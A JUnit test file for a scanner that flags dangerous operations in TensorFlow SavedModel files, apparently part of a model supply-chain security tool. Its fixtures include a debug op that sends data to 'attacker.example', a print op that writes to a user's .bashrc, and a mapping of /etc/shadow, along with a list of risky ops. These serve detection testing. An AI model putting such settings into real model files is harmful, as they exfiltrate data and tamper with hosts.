package dev.bulwark.supply.model.formats;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.core.Severity;
import dev.bulwark.supply.model.IssueKind;
import dev.bulwark.supply.model.ModelIssue;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SavedModelReaderTest {
    private final SavedModelReader reader = new SavedModelReader();

    static Samples.Proto node(String name, String op) {
        return new Samples.Proto().string(1, name).string(2, op).string(3, "input").string(4, "/device:CPU:0");
    }

    static Samples.Proto stringAttr(String key, String value, boolean asList) {
        Samples.Proto attrValue = asList ? new Samples.Proto().message(1, new Samples.Proto().string(2, value))
                : new Samples.Proto().string(2, value);
        return new Samples.Proto().string(1, key).message(2, attrValue);
    }

    static Samples.Proto function(String name, Samples.Proto... nodes) {
        Samples.Proto f = new Samples.Proto().message(1, new Samples.Proto().string(1, name));
        for (Samples.Proto n : nodes) f.message(3, n);
        return f;
    }

    /** SavedModel{schema 1, MetaGraphDef{meta_info_def, graph_def}} around {@code graph}. */
    static byte[] savedModel(Samples.Proto graph) {
        Samples.Proto metaGraph = new Samples.Proto()
                .message(1, new Samples.Proto().string(1, "serve").string(4, "2.15.0"))
                .message(2, graph.message(4, new Samples.Proto().varint(1, 1808)));
        return new Samples.Proto().varint(1, 1).message(2, metaGraph).build();
    }

    @Test
    void ordinaryModelWithItsSaverYieldsNothing() throws IOException {
        Samples.Proto library = new Samples.Proto()
                .message(1, function("__inference__traced_save_4321", node("SaveV2", "SaveV2"),
                        node("MergeV2Checkpoints", "MergeV2Checkpoints")))
                .message(1, function("__inference__traced_restore_4400", node("RestoreV2", "RestoreV2")))
                .message(1, function("__inference_serving_default_99", node("dense/MatMul", "MatMul")));
        Samples.Proto graph = new Samples.Proto().message(1, node("x", "Placeholder")).message(1, node("save/SaveV2", "SaveV2"))
                .message(1, node("save/RestoreV2", "RestoreV2")).message(2, library);
        byte[] file = savedModel(graph);
        assertThat(reader.recognizes(Scans.head(file))).isTrue();
        assertThat(new OnnxReader().recognizes(Scans.head(file))).isFalse();
        assertThat(Scans.scan(reader, file)).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({
            "PyFunc, DANGEROUS_CALL, HIGH",
            "EagerPyFunc, DANGEROUS_CALL, HIGH",
            "WriteFile, DANGEROUS_CALL, HIGH",
            "ReadFile, DANGEROUS_CALL, HIGH",
            "MatchingFiles, SUSPICIOUS_CALL, MEDIUM",
            "SaveV2, UNSAFE_STRUCTURE, MEDIUM",
            "RestoreV2, UNSAFE_STRUCTURE, LOW",
    })
    void systemTouchingOpsInTheServingFunctionAreFlagged(String op, IssueKind kind, Severity severity) throws IOException {
        Samples.Proto library = new Samples.Proto().message(1, function("__inference_serving_default_7", node("evil", op)));
        List<ModelIssue> issues = Scans.scan(reader, savedModel(new Samples.Proto().message(2, library)));
        assertThat(issues).singleElement().satisfies(issue -> {
            assertThat(issue.kind()).isEqualTo(kind);
            assertThat(issue.severity()).isEqualTo(severity);
            assertThat(issue.subject()).isEqualTo(op);
            assertThat(issue.detail()).contains("__inference_serving_default_7");
        });
    }

    @Test
    void opsInTheTopLevelGraphAreFlagged() throws IOException {
        byte[] file = savedModel(new Samples.Proto().message(1, node("leak", "ReadFile")));
        assertThat(Scans.scan(reader, file)).extracting(ModelIssue::subject).containsExactly("ReadFile");
    }

    @Test
    void debugAndPrintOpsAreJudgedByWhereTheySendData() throws IOException {
        Samples.Proto graph = new Samples.Proto()
                .message(1, node("dbg", "DebugIdentity").message(5, stringAttr("debug_urls", "grpc://attacker.example:6064", true)))
                .message(1, node("dump", "DebugIdentity").message(5, stringAttr("debug_urls", "file:///tmp/dump", true)))
                .message(1, node("quiet", "DebugIdentity"))
                .message(1, node("print", "PrintV2").message(5, stringAttr("output_stream", "file:///home/u/.bashrc", false)))
                .message(1, node("stderr", "PrintV2").message(5, stringAttr("output_stream", "stderr", false)))
                .message(1, node("map", "ImmutableConst").message(5, stringAttr("memory_region_name", "/etc/shadow", false)));
        List<ModelIssue> issues = Scans.scan(reader, savedModel(graph));
        assertThat(issues).extracting(ModelIssue::severity)
                .containsExactly(Severity.HIGH, Severity.MEDIUM, Severity.MEDIUM, Severity.MEDIUM);
        assertThat(issues.get(0).detail()).contains("grpc://attacker.example:6064");
        assertThat(issues.get(3).detail()).contains("/etc/shadow");
    }

    @Test
    void truncatedFileIsNotVerified() throws IOException {
        byte[] file = savedModel(new Samples.Proto().message(1, node("x", "Placeholder")));
        List<ModelIssue> issues = Scans.scan(reader, Arrays.copyOf(file, file.length - 3));
        assertThat(issues).extracting(ModelIssue::kind).containsExactly(IssueKind.NOT_VERIFIED);
    }

    @Test
    void doesNotClaimOnnxOrText() {
        assertThat(reader.recognizes(Scans.head(OnnxReaderTest.model(OnnxReaderTest.graph())))).isFalse();
        assertThat(reader.recognizes(Scans.head("hello world".getBytes()))).isFalse();
        assertThat(reader.recognizes(Scans.head(new byte[] {0x08, 0x02, 0x12, 0x01, 0x0a}))).isFalse();
    }
}
